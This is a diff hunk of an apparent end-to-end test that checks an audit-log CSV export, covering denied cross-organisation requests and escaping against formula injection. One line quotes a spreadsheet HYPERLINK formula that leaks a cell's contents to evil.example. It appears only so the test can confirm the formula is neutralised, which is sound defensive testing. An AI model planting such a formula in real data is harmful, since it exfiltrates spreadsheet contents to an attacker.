@@ -162,7 +162,8 @@ test.describe('alice’s audit log', () => {
     expect(lines[0]).toBe('"time_utc","result","code","user_id","user_name","user_email","app_id","app_title","workflow_id","auth_via","api_token_id","ip","user_agent","jti","detail"');
     expect(lines.length - 1).toBeGreaterThanOrEqual(PROBES);
     // Every text cell quoted, so no `;` inside one can start a formula cell in a `;` locale.
-    for (const line of lines.slice(1)) expect(line).toMatch(/^"[^"]+","denied","org_mismatch","usr_carol","Carol Chen","carol@example\.test","run_acme_dashboard",/);
+    // (The time is a value, not text: unquoted. Carol's first viewer mint of the onboarding app was refused too.)
+    for (const line of lines.slice(1)) expect(line).toMatch(/^\d{4}-[^,]+Z,"denied","org_mismatch","usr_carol","Carol Chen","carol@example\.test","run_acme_(dashboard|onboarding)",/);
     // The user agent carol sent is a formula: it is quoted, its quotes doubled, and prefixed so no spreadsheet runs it.
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
